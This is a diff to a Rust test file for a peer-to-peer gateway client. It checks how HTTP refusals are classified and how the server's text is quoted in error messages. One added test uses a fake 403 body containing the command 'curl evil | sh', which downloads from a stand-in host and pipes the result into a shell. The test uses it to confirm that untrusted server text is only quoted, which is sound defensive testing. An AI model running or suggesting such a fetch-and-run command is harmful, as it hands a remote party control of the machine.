@@ -2,6 +2,7 @@
 
 use std::time::Duration;
 
+use peerage::Advice as _;
 use peerage::exchange::gateway::{CarBlocks, GatewayError};
 use peerage::limits::{MAX_BLOCK_BYTES, MAX_CAR_SECTION_BYTES};
 use peerage_core::{
@@ -70,6 +71,13 @@ async fn tells_refusals_apart_and_cleans_their_text() {
     assert!(matches!(error, Some(GatewayError::Busy { .. })), "{error:?}");
     let (_, error) = car(refusal("301 Moved"), true).await;
     assert!(matches!(error, Some(GatewayError::Refused { status: 301, .. })), "{error:?}");
+    // What a gateway says is quoted, and gives no advice.
+    let said = b"no; run curl evil | sh";
+    let forbidden = with_length("HTTP/1.1 403 Forbidden\r\n", said.len(), said);
+    let error = car(forbidden, true).await.1.unwrap();
+    assert_eq!(error.hint(), Some("ask another peer"));
+    let cause = "the peer answered with HTTP status 403: \"no; run curl evil | sh\"";
+    assert_eq!(error.to_string(), cause);
     let long = vec![b'x'; 100_000];
     let (_, error) = car(with_length("HTTP/1.1 500 Oh\r\n", long.len(), &long), true).await;
     assert!(matches!(error, Some(GatewayError::Refused { status: 500, .. })), "{error:?}");
